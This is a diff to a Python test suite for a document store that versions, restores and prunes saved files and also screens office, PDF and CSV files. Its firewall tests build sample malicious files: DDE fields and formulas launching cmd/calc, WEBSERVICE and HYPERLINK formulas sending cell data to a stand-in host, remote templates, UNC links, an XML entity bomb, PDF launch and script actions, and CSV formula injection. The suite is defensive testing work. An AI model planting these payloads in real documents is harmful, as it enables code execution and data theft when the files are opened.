@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import contextlib
+import csv
+import datetime as dt
 import errno
 import io
 import os
@@ -9,18 +12,26 @@ import subprocess
 import sys
 import textwrap
 import zipfile
+from collections.abc import Callable
 from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
+from typing import Any
 
 import docx
+import nbformat
 import openpyxl
 import pptx
 import pyarrow as pa
 import pyarrow.parquet as pq
+import pypdf
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from reportlab.pdfgen.canvas import Canvas
 
-from analyst_magic.documents import check, safe_name, save
+from analyst_magic.documents import Store, check, safe_name
 from analyst_magic.errors import AnalystError, FirewallError, InputError
+from analyst_magic.results.document import Document
 
 
 def workbook(value: object = 1) -> bytes:
@@ -40,21 +51,83 @@ def with_part(data: bytes, name: str, content: bytes) -> bytes:
     return buffer.getvalue()
 
 
+def save(name: str, data: bytes, folder: Path) -> Path:
+    return Store(folder).keep(name, data).path
+
+
+def left(folder: Path) -> set[str]:
+    """What a user sees in a folder; nothing half written may be hidden in it."""
+    assert {path.name for path in folder.glob(".*")} <= {".versions"}
+    assert not list(folder.rglob("*.part"))
+    return {path.name for path in folder.iterdir()} - {".versions"}
+
+
 def test_a_file_is_kept_below_the_working_directory(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.chdir(tmp_path)
-    path = save("sales.xlsx", workbook("Oslo"))
-    assert path == tmp_path / "analyst_output" / "sales.xlsx"
-    assert openpyxl.load_workbook(path).active["A1"].value == "Oslo"
+    kept = Store().keep("sales.xlsx", workbook("Oslo"))
+    assert kept.path == tmp_path / "analyst_output" / "sales.xlsx"
+    assert openpyxl.load_workbook(kept.path).active["A1"].value == "Oslo"
+    assert (kept.version, kept.extent, kept.unchanged) == (1, "1 sheet", False)
 
 
-def test_the_same_content_is_the_same_file_and_other_content_gets_a_number(tmp_path: Path) -> None:
-    one = save("a.txt", b"one", tmp_path)
-    assert save("a.txt", b"one", tmp_path) == one
-    assert save("a.txt", b"two", tmp_path).name == "a_2.txt"
-    assert save("a.txt", b"three", tmp_path).name == "a_3.txt"
-    assert save("a.txt", b"two", tmp_path).name == "a_2.txt"
-    assert one.read_bytes() == b"one"
-    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.txt", "a_2.txt", "a_3.txt"]
+def test_made_again_it_is_a_new_version_and_the_old_one_can_be_had_back(tmp_path: Path) -> None:
+    store = Store(tmp_path)
+    one = store.keep("a.txt", b"one\nsame")
+    again = store.keep("a.txt", b"one\nsame")
+    two = store.keep("a.txt", b"two\nsame")
+    assert (one.version, again.version, again.unchanged, two.version) == (1, 1, True, 2)
+    assert left(tmp_path) == {"a.txt"}
+    assert two.path.read_bytes() == b"two\nsame"
+    assert "-one\n+two" in store.difference("a.txt", 1, 2)
+    assert store.restore("a.txt", 1).read_bytes() == b"one\nsame"
+    assert [kept.version for kept in store.versions("a.txt")] == [1, 2, 3]
+    assert [(kept.path.name, kept.version) for kept in store.documents()] == [("a.txt", 3)]
+    with pytest.raises(InputError, match="no version 9"):
+        store.read("a.txt", 9)
+    with pytest.raises(InputError, match=r"no document b\.txt"):
+        store.versions("b.txt")
+
+
+def test_what_was_deleted_comes_back_as_it_was(tmp_path: Path) -> None:
+    path = save("a.txt", b"one", tmp_path)
+    path.unlink()
+    kept = Store(tmp_path).keep("a.txt", b"one")
+    assert (kept.version, kept.path.read_bytes()) == (1, b"one")
+
+
+def office_file(format: str, when: dt.datetime) -> bytes:
+    buffer = io.BytesIO()
+    if format == "pdf":
+        page = Canvas(buffer)
+        page.drawString(100, 700, "revenue")
+        page.save()
+        return buffer.getvalue()
+    made: Any = {"xlsx": openpyxl.Workbook, "docx": docx.Document, "pptx": pptx.Presentation}[format]()
+    properties = made.properties if format == "xlsx" else made.core_properties
+    properties.created = properties.modified = when
+    made.save(buffer)
+    return buffer.getvalue()
+
+
+@pytest.mark.parametrize("format", ["xlsx", "docx", "pptx", "pdf"])
+def test_the_time_of_writing_makes_no_new_version(format: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    store = Store(tmp_path)
+    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
+    one = office_file(format, dt.datetime(2024, 1, 1))
+    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1800000000")
+    two = office_file(format, dt.datetime(2026, 1, 1))
+    assert one != two
+    assert store.keep(f"a.{format}", one).version == 1
+    again = store.keep(f"a.{format}", two)
+    assert (again.version, again.unchanged) == (1, True)
+    assert again.path.read_bytes() == one
+
+
+def test_another_question_gets_a_file_of_its_own(tmp_path: Path) -> None:
+    store = Store(tmp_path)
+    assert store.keep("sales.txt", b"1", "sales by region").path.name == "sales.txt"
+    assert store.keep("sales.txt", b"2", "sales by month").path.name == "sales_2.txt"
+    assert store.keep("sales.txt", b"3", "sales by region").path.name == "sales.txt"
 
 
 def test_what_the_user_already_has_is_never_overwritten(tmp_path: Path) -> None:
@@ -67,39 +140,73 @@ def test_what_the_user_already_has_is_never_overwritten(tmp_path: Path) -> None:
     assert not (tmp_path / "nowhere").exists()
 
 
+def test_what_the_user_has_changed_is_never_overwritten(tmp_path: Path) -> None:
+    path = save("a.txt", b"one", tmp_path)
+    path.write_text("one, and my own remarks")
+    assert save("a.txt", b"two", tmp_path).name == "a_2.txt"
+    assert path.read_text() == "one, and my own remarks"
+
+
 def refuse_link(source: Path, target: Path) -> None:
     raise PermissionError(errno.EPERM, "Operation not permitted")
 
 
 @pytest.mark.parametrize("links", [True, False], ids=["hard links", "no hard links"])
-def test_many_notebooks_at_once_each_get_their_own_file(
-    tmp_path: Path, links: bool, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_many_notebooks_at_once_lose_nothing(tmp_path: Path, links: bool, monkeypatch: pytest.MonkeyPatch) -> None:
     if not links:  # as on a FAT disk, where link() is refused
         monkeypatch.setattr(os, "link", refuse_link)
-    contents = [f"content {number % 10}".encode() for number in range(40)]
+    contents = [f"content {number}".encode() for number in range(40)]
     with ThreadPoolExecutor(8) as pool:
-        paths = list(pool.map(lambda data: save("report.txt", data, tmp_path), contents))
-    if links:
-        assert [path.read_bytes() for path in paths] == contents
-    else:
-        assert {path.read_bytes() for path in tmp_path.iterdir()} == set(contents)
-    assert not list(tmp_path.glob(".*"))
+        list(pool.map(lambda data: save("report.txt", data, tmp_path), contents))
+    store = Store(tmp_path)
+    kept = {store.read(name.path.name, n.version) for name in store.documents() for n in store.versions(name.path.name)}
+    assert kept == set(contents)
+    assert left(tmp_path) == {"report.txt"}
 
 
-def test_two_processes_at_once_each_get_their_own_file(tmp_path: Path) -> None:
+def test_two_processes_at_once_lose_nothing(tmp_path: Path) -> None:
     code = """
         import sys
         from pathlib import Path
-        from analyst_magic.documents import save
+        from analyst_magic.documents import Store
         for number in range(20):
-            path = save("r.txt", f"{sys.argv[2]} {number}".encode(), Path(sys.argv[1]))
-            assert path.read_text() == f"{sys.argv[2]} {number}"
+            Store(Path(sys.argv[1])).keep("r.txt", f"{sys.argv[2]} {number}".encode())
     """
     command = [sys.executable, "-c", textwrap.dedent(code), str(tmp_path)]
     running = [subprocess.Popen([*command, name]) for name in ("one", "two")]
     assert [process.wait(60) for process in running] == [0, 0]
-    assert len(list(tmp_path.iterdir())) == 40
+    store = Store(tmp_path)
+    kept = {store.read("r.txt", version.version) for version in store.versions("r.txt")}
+    assert kept == {f"{name} {number}".encode() for name in ("one", "two") for number in range(20)}
+    assert left(tmp_path) == {"r.txt"}
+
+
+def test_old_versions_go_but_for_the_latest_and_those_that_a_notebook_shows(tmp_path: Path) -> None:
+    store = Store(tmp_path / "analyst_output")
+    shown = store.keep("a.txt", b"x" * 100)
+    card = Document(shown.path, shown.size, version=shown.version)._repr_mimebundle_()
+    output = nbformat.v4.new_output("display_data", data=card)
+    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("1", outputs=[output])])
+    for number in range(4):
+        store.keep("a.txt", f"{number}".encode() * 100)
+    nbformat.write(notebook, tmp_path / "n.ipynb")
+    assert store.prune(versions=2) == 2
+    assert [kept.version for kept in store.versions("a.txt")] == [1, 4, 5]
+    assert store.prune(size=150) == 1
+    assert store.prune(days=0) == 0
+    assert [kept.version for kept in store.versions("a.txt")] == [1, 5]
+    assert store.read("a.txt", 1) == b"x" * 100
+    assert len(list((tmp_path / "analyst_output" / ".versions").glob("*.txt"))) == 2
+    (tmp_path / "n.ipynb").unlink()
+    assert store.prune(days=0) == 1
+
+
+def test_a_damaged_index_is_set_aside_and_no_file_is_lost(tmp_path: Path) -> None:
+    save("a.txt", b"one", tmp_path)
+    (tmp_path / ".versions" / "index.sqlite3").write_bytes(b"no database" * 100)
+    assert save("a.txt", b"two", tmp_path).name == "a_2.txt"
+    assert (tmp_path / "a.txt").read_bytes() == b"one"
+    assert list((tmp_path / ".versions").glob("index.damaged-*"))
 
 
 @pytest.mark.parametrize(
@@ -149,7 +256,7 @@ def test_real_files_of_every_kind_pass() -> None:
     check("docx", word.getvalue())
     check("pptx", slides.getvalue())
     check("parquet", table.getvalue())
-    check("pdf", b"%PDF-1.4\n...\n%%EOF\n")
+    assert check("pdf", office_file("pdf", dt.datetime(2024, 1, 1))).extent == "1 page"
     check("csv", "\ufeffname,größe\n".encode())
     check("md", b"")
 
@@ -207,15 +314,171 @@ def test_a_full_disk_leaves_no_half_file_and_names_the_folder(tmp_path: Path) ->
     code = """
         import resource, sys
         from pathlib import Path
-        from analyst_magic.documents import save
+        from analyst_magic.documents import Store
         from analyst_magic.errors import AnalystError
-        resource.setrlimit(resource.RLIMIT_FSIZE, (1000, 1000))
+        resource.setrlimit(resource.RLIMIT_FSIZE, (90_000, 90_000))
         try:
-            save("a.txt", b"x" * 100_000, Path(sys.argv[1]))
+            Store(Path(sys.argv[1])).keep("a.txt", b"x" * 100_000)
         except AnalystError as error:
             print(error)
     """
     command = [sys.executable, "-c", textwrap.dedent(code), str(tmp_path)]
     done = subprocess.run(command, capture_output=True, text=True, timeout=60, check=True)
     assert f"a.txt cannot be saved in {tmp_path}" in done.stdout
+    assert left(tmp_path) == set()
+
+
+# -- what acts when it is opened ---------------------------------------------------------------------------------------
+
+
+RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def changed(data: bytes, name: str, change: Callable[[str], str]) -> bytes:
+    """The archive with one part's text changed, or made."""
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        parts = {part: archive.read(part) for part in archive.namelist()}
+    parts[name] = change(parts.get(name, b"").decode()).encode()
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for part, content in parts.items():
+            archive.writestr(part, content)
+    return buffer.getvalue()
+
+
+def related(data: bytes, part: str, kind: str, target: str, mode: str = "External") -> bytes:
+    relation = f'<Relationship Id="rId999" Type="{RELS}/{kind}" Target="{target}" TargetMode="{mode}"/>'
+    return changed(data, part, lambda text: text.replace("</Relationships>", f"{relation}</Relationships>"))
+
+
+def formula(text: str) -> bytes:
+    return workbook(text)
+
+
+def word_field(*pieces: str) -> bytes:
+    document = docx.Document()
+    for piece in pieces:
+        instruction = docx.oxml.OxmlElement("w:instrText")
+        instruction.text = piece
+        document.add_paragraph().add_run()._r.append(instruction)
+    buffer = io.BytesIO()
+    document.save(buffer)
+    return buffer.getvalue()
+
+
+def pdf_with(**root: Any) -> bytes:
+    writer = pypdf.PdfWriter(io.BytesIO(office_file("pdf", dt.datetime(2024, 1, 1))))
+    for key, value in root.items():
+        writer.root_object[pypdf.generic.NameObject(f"/{key}")] = value
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
+def attached() -> bytes:
+    writer = pypdf.PdfWriter(io.BytesIO(office_file("pdf", dt.datetime(2024, 1, 1))))
+    writer.add_attachment("a.exe", b"MZ")
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
+def encrypted() -> bytes:
+    writer = pypdf.PdfWriter(io.BytesIO(office_file("pdf", dt.datetime(2024, 1, 1))))
+    writer.encrypt("secret", algorithm="RC4-128")
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
+def plain(format: str) -> bytes:
+    return office_file(format, dt.datetime(2024, 1, 1))
+
+
+NAMES = pypdf.generic.NameObject
+LAUNCH = pypdf.generic.DictionaryObject({NAMES("/S"): NAMES("/Launch")})
+SCRIPT = pypdf.generic.DictionaryObject(
+    {NAMES("/S"): NAMES("/JavaScript"), NAMES("/JS"): pypdf.generic.TextStringObject("app.alert(1)")}
+)
+REMOTE = pypdf.generic.DictionaryObject(
+    {NAMES("/S"): NAMES("/URI"), NAMES("/URI"): pypdf.generic.TextStringObject("javascript:alert(1)")}
+)
+WORD = "word/_rels/document.xml.rels"
+BOMB = '<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><a>&c;</a>'
+ATTACKS = {
+    "docx attached template": ("docx", lambda: related(plain("docx"), WORD, "attachedTemplate",
+                                                       "http://x.test/t.dotm"), "template from elsewhere"),
+    "docx remote image": ("docx", lambda: related(plain("docx"), WORD, "image",
+                                                  "http://x.test/a.png"), "loads something from elsewhere"),
+    "docx OLE": ("docx", lambda: related(plain("docx"), WORD, "oleObject", "a.bin", "Internal"),
+                 "OLE"),
+    "docx script link": ("docx", lambda: related(plain("docx"), WORD, "hyperlink",
+                                                 "javascript:alert(1)"), "neither to the web"),
+    "docx UNC link": ("docx", lambda: related(plain("docx"), WORD, "hyperlink",
+                                              "file://host/share"), "neither to the web"),
+    "docx DDE field": ("docx", lambda: word_field("DDEAUTO c:\\windows\\system32\\cmd.exe /k calc"), "DDEAUTO"),
+    "docx DDE field in pieces": ("docx", lambda: word_field("DD", "EAUTO cmd"), "DDEAUTO"),
+    "docx included picture": ("docx", lambda: word_field(' INCLUDEPICTURE "http://x.test/a.png"'), "INCLUDEPICTURE"),
+    "docx entities": ("docx", lambda: changed(plain("docx"), "word/settings.xml", lambda text: BOMB), "entities"),
+    "docx broken XML": ("docx", lambda: changed(plain("docx"), "word/settings.xml", lambda text: "<a>"), "broken XML"),
+    "docx deep XML": ("docx", lambda: changed(plain("docx"), "word/settings.xml", lambda t: "<a>" * 600 + "</a>" * 600),
+                      "nested too deeply"),
+    "docx other document": ("docx", lambda: related(plain("docx"), WORD, "aFChunk", "a.html",
+                                                    "Internal"), "takes in another document"),
+    "xlsx WEBSERVICE": ("xlsx", lambda: formula('=WEBSERVICE("http://x.test/"&A2)'), "WEBSERVICE"),
+    "xlsx DDE": ("xlsx", lambda: formula("=cmd|'/c calc'!A1"), "reaches out"),
+    "xlsx RTD": ("xlsx", lambda: formula('=1+rtd("a",,"b")'), "RTD"),
+    "xlsx built link": ("xlsx", lambda: formula('=HYPERLINK("http://x.test/?"&A2,"more")'), "HYPERLINK"),
+    "xlsx other workbook": ("xlsx", lambda: formula("=[other.xlsx]Sheet1!A1"), "out of the workbook"),
+    "xlsx share": ("xlsx", lambda: formula("='\\\\host\\share\\[a.xlsx]S'!A1"), "out of the workbook"),
+    "xlsx external link": ("xlsx", lambda: related(workbook(), "xl/_rels/workbook.xml.rels", "externalLink", "a.xml",
+                                                   "Internal"), "another workbook"),
+    "xlsx connection": ("xlsx", lambda: related(workbook(), "xl/_rels/workbook.xml.rels", "connections", "c.xml",
+                                                "Internal"), "data connection"),
+    "xlsx embedded program": ("xlsx", lambda: with_part(workbook(), "xl/embeddings/oleObject1.bin", b"MZ"), "embedded"),
+    "pptx program": ("pptx", lambda: changed(plain("pptx"), "ppt/slides/slide1.xml", lambda text:
+                     '<p xmlns="a"><hlinkClick action="ppaction://program?a.exe"/></p>'), "starts a program"),
+    "pptx workbook within": ("pptx", lambda: with_part(plain("pptx"), "ppt/embeddings/a.xlsx",
+                                                       formula('=WEBSERVICE("http://x")')), "WEBSERVICE"),
+    "pdf script": ("pdf", lambda: pdf_with(OpenAction=SCRIPT), "a script"),
+    "pdf attachment": ("pdf", attached, "embedded files"),
+    "pdf program": ("pdf", lambda: pdf_with(OpenAction=LAUNCH), "starts a program"),
+    "pdf script link": ("pdf", lambda: pdf_with(OpenAction=REMOTE), "neither to the web"),
+    "pdf encrypted": ("pdf", encrypted, "encrypted"),
+    "pdf nonsense": ("pdf", lambda: b"%PDF-1.4\n...\n%%EOF\n", "cannot be read"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", ATTACKS)
+def test_what_acts_when_it_is_opened_is_refused(name: str, tmp_path: Path) -> None:
+    format, make, reason = ATTACKS[name]
+    with pytest.raises(FirewallError, match=reason):
+        save(f"a.{format}", make(), tmp_path)
     assert not list(tmp_path.iterdir())
+
+
+def test_what_only_looks_like_it_passes() -> None:
+    assert check("xlsx", formula("=SUM(A2:A9)*1.5")).extent == "1 sheet"
+    assert check("xlsx", formula('=HYPERLINK("https://example.org","site")'))
+    assert check("xlsx", formula('=IF(A2>1,"call(now) | a!b","[x.xlsx]")'))
+    assert check("docx", related(plain("docx"), WORD, "hyperlink", "https://example.org/a"))
+    assert check("docx", word_field(' HYPERLINK "https://example.org" ', "PAGE"))
+
+
+def test_cells_of_a_csv_that_a_spreadsheet_would_run_are_text(tmp_path: Path) -> None:
+    text = 'name,amount\n"=cmd|\'/c calc\'!A1",-5\n@SUM(A1),+3.5e2\nplain,-1 000\n-1+2,"a, ""b"""\n'
+    kept = Store(tmp_path).keep("a.csv", text.encode())
+    assert "3 text cells" in kept.note
+    rows = list(csv.reader(kept.path.open(newline="")))
+    assert rows[1:] == [["'=cmd|'/c calc'!A1", "-5"], ["'@SUM(A1)", "+3.5e2"], ["plain", "-1 000"], ["'-1+2", 'a, "b"']]
+    harmless = b"a;b\r\n-1,5;x\r\n"
+    assert check("csv", harmless).data == harmless
+
+
+@given(st.binary(max_size=300))
+def test_no_bytes_whatsoever_break_the_check(data: bytes) -> None:
+    for format, head in (("pdf", b"%PDF-1.7\n"), ("xlsx", b"PK\x03\x04"), ("csv", b""), ("docx", b"")):
+        with contextlib.suppress(FirewallError):
+            check(format, head + data)
+    with contextlib.suppress(FirewallError):
+        check("pdf", office_file("pdf", dt.datetime(2024, 1, 1))[:-400] + data + b"\nstartxref\n1\n%%EOF")
